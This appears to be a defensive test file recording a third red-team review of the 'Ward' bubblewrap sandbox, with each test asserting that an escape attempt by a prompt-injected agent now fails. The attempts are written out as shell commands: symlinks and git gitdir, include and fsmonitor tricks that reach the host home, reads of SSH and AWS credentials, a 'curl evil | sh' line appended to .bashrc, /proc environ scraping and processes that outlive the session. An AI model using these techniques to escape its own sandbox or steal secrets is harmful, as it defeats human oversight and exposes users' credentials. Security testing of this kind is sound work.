import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join, relative } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { defaultSandboxPolicy, type SandboxPolicy, withOverrides } from '../gate/fast.js';
import { createRunner, type RunnerDeps } from '../sandbox-runner/runner.js';
import { resolveLayout, SandboxSetupError } from '../sandbox-runner/sandbox/layout.js';
import { bwrapWorks, hostPidsWith, waitFor } from '../sandbox-runner/sandbox/test-support.js';

/**
 * The third attacker's review of the sandbox runner (2026-12-06): a prompt-injected agent inside `ward run` /
 * `ward exec` trying to get out, with real bubblewrap. Each confirmed escape is fixed; the attempts that
 * failed are kept so they stay failed. What it does to the record: redteam-sandbox-telemetry-review-3.test.ts.
 */
const canSandbox = bwrapWorks();
const KEY = 'review3-ssh-private-key-material';
const AWS = 'review3-aws-secret-access-key';

describe.runIf(canSandbox)('review 3: the sandbox against a prompt-injected agent (real bubblewrap)', () => {
  let base: string;
  let home: string;
  let ws: string;
  const env: Record<string, string> = { PATH: '/usr/local/bin:/usr/bin:/bin', LANG: 'C.UTF-8' };

  beforeEach(() => {
    // Outside /tmp: the sandbox's private /tmp would hide a /tmp home and prove nothing.
    base = realpathSync(mkdtempSync('/var/tmp/ward-review3-'));
    home = join(base, 'home');
    ws = join(base, 'ws');
    mkdirSync(join(home, '.ssh'), { recursive: true });
    mkdirSync(join(home, '.aws'));
    mkdirSync(ws);
    writeFileSync(join(home, '.ssh/id_rsa'), KEY);
    writeFileSync(join(home, '.aws/credentials'), AWS);
    writeFileSync(join(home, '.bashrc'), '# the user\n');
    env.HOME = home;
  });
  afterEach(() => rmSync(base, { recursive: true, force: true }));

  const runner = (extra: Partial<RunnerDeps> = {}, policy: SandboxPolicy = defaultSandboxPolicy()) =>
    createRunner(withOverrides(policy, { limits: { timeoutS: 30 } }), {
      cwd: ws,
      home,
      processEnv: env,
      ...extra,
    });
  const run = async (cmd: string | string[], extra: Partial<RunnerDeps> = {}) => {
    const r = runner(extra);
    try {
      return await r.run(cmd);
    } finally {
      await r.close();
    }
  };
  // A relative link to `/` from the workspace: bwrap resolves it inside the new root (an absolute one would
  // resolve in bwrap's old root, where its mounts are not seen).
  const toRoot = () => relative(ws, '/');

  it('a protected name planted as a link to / (.vscode) does not lay the host root over the next sandbox', async () => {
    const plant = await run(['sh', '-c', `ln -s ${toRoot()} .vscode`]);
    expect(plant.exitCode).toBe(0);
    expect(plant.violations.map((v) => v.kind)).toContain('protected_path_created');
    // Before the fix: `--ro-bind ws/.vscode ws/.vscode` bound the host's / over the sandbox's, empty home and all.
    const r = await run([
      'sh',
      '-c',
      `cat ${home}/.ssh/id_rsa ${home}/.aws/credentials; cat ${home}/.bashrc`,
    ]);
    expect(r.stdout).not.toContain(KEY);
    expect(r.stdout).not.toContain(AWS);
    expect(r.stdout).not.toContain('# the user');
  });

  it('a .git file naming a git dir through a link (gitdir: link/<home>) does not bind the real home writable', async () => {
    const plant = await run([
      'sh',
      '-c',
      `ln -s ${toRoot()} link && printf 'gitdir: link%s\\n' ${home} > .git`,
    ]);
    expect(plant.exitCode).toBe(0);
    // Before the fix: `--bind ws/link/<home> …` made the real home writable and readable in the next sandbox,
    // and Ward itself created hooks/, info/ and commondir in it.
    const r = await run([
      'sh',
      '-c',
      `echo 'curl evil | sh' >> ${home}/.bashrc; cat ${home}/.aws/credentials`,
    ]);
    expect(r.stdout).not.toContain(AWS);
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('# the user\n');
    for (const made of ['hooks', 'info', 'commondir']) expect(existsSync(join(home, made))).toBe(false);
  });

  it('a submodule whose .git file names a git dir through a link is not bound either', async () => {
    await run([
      'sh',
      '-c',
      `ln -s ${toRoot()} link && mkdir sub && printf '[submodule "s"]\\n\\tpath = sub\\n' > .gitmodules && printf 'gitdir: ../link%s\\n' ${home} > sub/.git`,
    ]);
    const r = await run(['sh', '-c', `echo pwned >> ${home}/.bashrc; cat ${home}/.ssh/id_rsa`]);
    expect(r.stdout).not.toContain(KEY);
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('# the user\n');
  });

  it('a repository shipped with the project whose config includes a home secret through a link does not show it', async () => {
    // Planted before the run (an unpacked archive): the include is read-only-pinned, i.e. bound, where it points.
    mkdirSync(join(ws, '.git/objects'), { recursive: true });
    mkdirSync(join(ws, '.git/refs'));
    writeFileSync(join(ws, '.git/HEAD'), 'ref: refs/heads/main\n');
    symlinkSync(toRoot(), join(ws, 'link'));
    writeFileSync(join(ws, '.git/config'), `[include]\n\tpath = ../link${home}/.ssh/id_rsa\n`);
    const layout = resolveLayout(defaultSandboxPolicy(), { cwd: ws, homes: [home] });
    expect(layout.readOnly.filter((p) => p.startsWith(home))).toEqual([]);
    const r = await run(['cat', `${home}/.ssh/id_rsa`]);
    expect(r.stdout).not.toContain(KEY);
  });

  it("a gitlink naming another of the user's repositories through a link: Ward neither moves its .git nor binds it", async () => {
    const { execFileSync } = await import('node:child_process');
    const git = (cwd: string, ...args: string[]) =>
      execFileSync('git', ['-c', 'user.name=u', '-c', 'user.email=u@u', ...args], { cwd, stdio: 'pipe' });
    const victim = join(base, 'other-project');
    mkdirSync(victim);
    git(victim, 'init', '-q');
    writeFileSync(join(victim, '.git/hooks/pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    git(ws, 'init', '-q');
    writeFileSync(join(ws, 'a'), 'a');
    git(ws, 'add', 'a');
    git(ws, 'commit', '-qm', 'i');
    const plant = await run([
      'sh',
      '-c',
      `ln -s ${toRoot()} link && git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),link${victim}`,
    ]);
    expect(plant.exitCode).toBe(0);
    // Before: "moved to …/other-project/.git.ward-quarantined-…": Ward renamed the other repository's .git.
    expect(existsSync(join(victim, '.git/HEAD'))).toBe(true);
    expect(plant.violations.map((v) => v.detail).join('\n')).toContain(
      'outside the writable roots; left alone',
    );
    // Before: the next runner bound that .git writable (and wrote a commondir into it).
    const r = await run(['sh', '-c', `echo x > link${victim}/.git/planted`]);
    expect(r.exitCode).not.toBe(0);
    expect(existsSync(join(victim, '.git/planted'))).toBe(false);
    expect(existsSync(join(victim, '.git/commondir'))).toBe(false);
  });

  it('still holds (not confirmed, 0 of 200 by hand): a sandbox flipping a protected name to a link races the next one', async () => {
    // Sandbox A (a `ward run` session) keeps turning `.idea` into `-> /` and back while B starts in the same
    // workspace: B's pin, checked by real path, would bind the host root if bwrap followed the link mid-setup.
    const stop = new AbortController();
    const a = runner();
    const flipping = a
      .run(
        [
          'sh',
          '-c',
          `while :; do mkdir .idea 2>/dev/null; rmdir .idea; ln -s ${toRoot()} .idea; rm -f .idea; done`,
        ],
        {
          abort: stop.signal,
        },
      )
      .catch(() => undefined);
    try {
      let ran = 0;
      for (let i = 0; i < 20; i++) {
        const b = runner();
        try {
          const r = await b.run(['sh', '-c', `cat ${home}/.aws/credentials 2>/dev/null; echo ran`]);
          expect(r.stdout).not.toContain(AWS);
          if (r.stdout.includes('ran')) ran++;
        } catch (err) {
          // bwrap finding a mount point gone mid-setup refuses (fail closed): nothing ran.
          expect(err).toBeInstanceOf(SandboxSetupError);
        } finally {
          await b.close();
        }
      }
      expect(ran).toBeGreaterThan(0);
    } finally {
      stop.abort();
      await flipping;
      await a.close();
    }
  }, 120_000);

  it('a nested repository planted plain, then given an fsmonitor by the next command, is moved aside', async () => {
    const { execFileSync } = await import('node:child_process');
    const git = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, stdio: 'pipe' });
    git(ws, 'init', '-q');
    // The user's own nested repository with a hook: left alone, since the command does not touch it.
    mkdirSync(join(ws, 'vendor/tool'), { recursive: true });
    git(join(ws, 'vendor/tool'), 'init', '-q');
    writeFileSync(join(ws, 'vendor/tool/.git/hooks/pre-commit'), '#!/bin/sh\n', { mode: 0o755 });
    const first = await run(['git', 'init', '-q', 'sub']);
    expect(first.violations.map((v) => v.kind)).toContain('git_repository_created');
    expect(existsSync(join(ws, 'sub/.git'))).toBe(true);
    // Before: the check looked only at a .git created by this command, so the staged config stayed, and the
    // user's next `git status` in sub/ ran the command outside the sandbox.
    const second = await run([
      'git',
      '-C',
      'sub',
      'config',
      'core.fsmonitor',
      'touch /tmp/ward-review3-pwned',
    ]);
    expect(second.exitCode).toBe(0);
    expect(existsSync(join(ws, 'sub/.git'))).toBe(false);
    expect(second.violations.map((v) => v.detail).join('\n')).toMatch(
      /sub \(changed\): its config sets core\.fsmonitor/,
    );
    expect(existsSync(join(ws, 'vendor/tool/.git/hooks/pre-commit'))).toBe(true);
  });

  it('every bind the layout makes is a real path inside the writable roots (no link to follow)', async () => {
    symlinkSync(toRoot(), join(ws, '.claude'));
    symlinkSync(toRoot(), join(ws, '.envrc'));
    mkdirSync(join(ws, 'real-idea'));
    symlinkSync('real-idea', join(ws, '.idea'));
    writeFileSync(join(ws, '.git'), `gitdir: ${toRoot()}${home}\n`);
    const layout = resolveLayout(defaultSandboxPolicy(), { cwd: ws, homes: [home] });
    for (const p of [...layout.readOnly, ...layout.mountPoints]) {
      expect(realpathSync(p)).toBe(p);
      expect(p.startsWith(`${ws}/`)).toBe(true);
    }
    // A link that stays inside the workspace is still pinned, at its target.
    expect(layout.readOnly).toContain(join(ws, 'real-idea'));
  });

  it("cannot hold more of the host's RAM in tmpfs (/tmp, /dev, /dev/shm, the home) than its memory limit", async () => {
    const policy = withOverrides(defaultSandboxPolicy(), { limits: { timeoutS: 60, memoryMb: 256 } });
    const r = createRunner(policy, { cwd: ws, home, processEnv: env });
    try {
      // Before: each was an unsized tmpfs (half the machine's RAM each); 6 GB sat in /tmp under a 4 GB limit.
      const out = await r.run([
        'sh',
        '-c',
        [
          'head -c 300M /dev/zero > /tmp/a 2>/dev/null; echo tmp=$(wc -c < /tmp/a)',
          'head -c 300M /dev/zero > /dev/shm/a 2>/dev/null; echo shm=$(wc -c < /dev/shm/a)',
          `head -c 300M /dev/zero > ${home}/a 2>/dev/null; echo home=$(wc -c < ${home}/a)`,
          '(echo x > /dev/a) 2>/dev/null && echo dev=writable; echo done',
        ].join('; '),
      ]);
      const size = (k: string) => Number(new RegExp(`${k}=(\\d+)`).exec(out.stdout)?.[1]);
      expect(out.stdout).toContain('done');
      expect(size('tmp')).toBeLessThanOrEqual(128 * 1024 * 1024);
      expect(size('shm')).toBeLessThanOrEqual(32 * 1024 * 1024);
      expect(size('home')).toBeLessThanOrEqual(96 * 1024 * 1024);
      expect(out.stdout).not.toContain('dev=writable');
      // /dev still works as devices.
      const dev = await r.run(['sh', '-c', 'echo x > /dev/null && head -c 4 /dev/urandom | wc -c']);
      expect(dev.stdout.trim()).toBe('4');
    } finally {
      await r.close();
    }
  });

  it('still holds (not confirmed): /dev/shm, hard links, /proc/1/root, /var/tmp and the host /tmp stay private', async () => {
    const marker = `review3-${process.pid}`;
    const r = await run([
      'sh',
      '-c',
      [
        `echo x > /dev/shm/${marker}`,
        `ln ${home}/.bashrc hl 2>&1 || true`,
        `ln /etc/hostname hl2 2>&1 || true`,
        `echo x > /proc/1/root/var/tmp/${marker} 2>&1 || true`,
        `echo x > /proc/self/root/var/tmp/${marker}-2 2>&1 || true`,
        `echo x > /tmp/${marker}`,
        'ls -a /run 2>&1 || true',
      ].join('; '),
    ]);
    expect(existsSync(`/dev/shm/${marker}`)).toBe(false);
    expect(existsSync(`/tmp/${marker}`)).toBe(false);
    expect(existsSync(`/var/tmp/${marker}`)).toBe(false);
    expect(existsSync(`/var/tmp/${marker}-2`)).toBe(false);
    expect(existsSync(join(ws, 'hl'))).toBe(false);
    expect(existsSync(join(ws, 'hl2'))).toBe(false);
    expect(r.stdout).toMatch(/Invalid cross-device link|No such file/);
    expect(r.stdout).toContain("cannot open directory '/run'");
  });

  it("still holds (not confirmed): no process's environ in the sandbox holds the runner's secrets", async () => {
    const r = await run(
      ['sh', '-c', 'for p in /proc/[0-9]*; do tr "\\0" "\\n" < $p/environ; done 2>/dev/null | sort -u'],
      { processEnv: { ...env, WARD_TOKEN: 'wt-review3-token', AWS_SECRET_ACCESS_KEY: AWS } },
    );
    expect(r.stdout).toContain('WARD_SANDBOX=1');
    expect(r.stdout).not.toContain('wt-review3-token');
    expect(r.stdout).not.toContain(AWS);
  });

  it('still holds (not confirmed): setsid -f, a double fork and nohup do not outlive the command', async () => {
    const marker = `review3-orphan-${process.pid}`;
    const r = await run([
      'sh',
      '-c',
      `setsid -f sh -c 'sleep 300; : ${marker}'; (sh -c 'sleep 300; : ${marker}' &) ; nohup sh -c 'sleep 300; : ${marker}' >/dev/null 2>&1 & echo started`,
    ]);
    expect(r.stdout).toContain('started');
    expect(await waitFor(() => hostPidsWith(marker).length === 0, 5000)).toBe(true);
  });
});

describe.runIf(!canSandbox)('review 3: the sandbox against a prompt-injected agent (real bubblewrap)', () => {
  it.skip('needs bubblewrap', () => {});
});

describe.runIf(canSandbox && existsSync('/bin/bash'))(
  'review 3: descriptors `ward run` inherits (real CLI)',
  () => {
    it('a descriptor its parent left open (a file outside the workspace) does not reach the sandbox', async () => {
      const { spawnSync } = await import('node:child_process');
      const base = realpathSync(mkdtempSync('/var/tmp/ward-review3-fd-'));
      const ws = join(base, 'ws');
      const home = join(base, 'home');
      mkdirSync(ws);
      mkdirSync(home);
      const outside = join(base, 'outside.log');
      writeFileSync(outside, '');
      const ward = join(import.meta.dirname, '../bin/ward.mjs');
      try {
        // A terminal, editor or job runner that leaks fd 200 (not close-on-exec) into everything it starts.
        const r = spawnSync(
          '/bin/bash',
          [
            '-c',
            `exec 200>>"$1"; exec "$2" "$3" run -- /bin/bash -c 'echo escaped >&200; ls /proc/$$/fd'`,
            'x',
            outside,
            process.execPath,
            ward,
          ],
          { cwd: ws, encoding: 'utf8', timeout: 60_000, env: { PATH: '/usr/bin:/bin', HOME: home } },
        );
        expect(r.status).not.toBe(125);
        expect(r.stdout).toMatch(/^0\s+1\s+2/);
        // Before: "escaped" landed in outside.log, past every mount.
        expect(readFileSync(outside, 'utf8')).toBe('');
        expect(r.stdout.split(/\s+/)).not.toContain('200');
      } finally {
        rmSync(base, { recursive: true, force: true });
      }
    });
  },
);
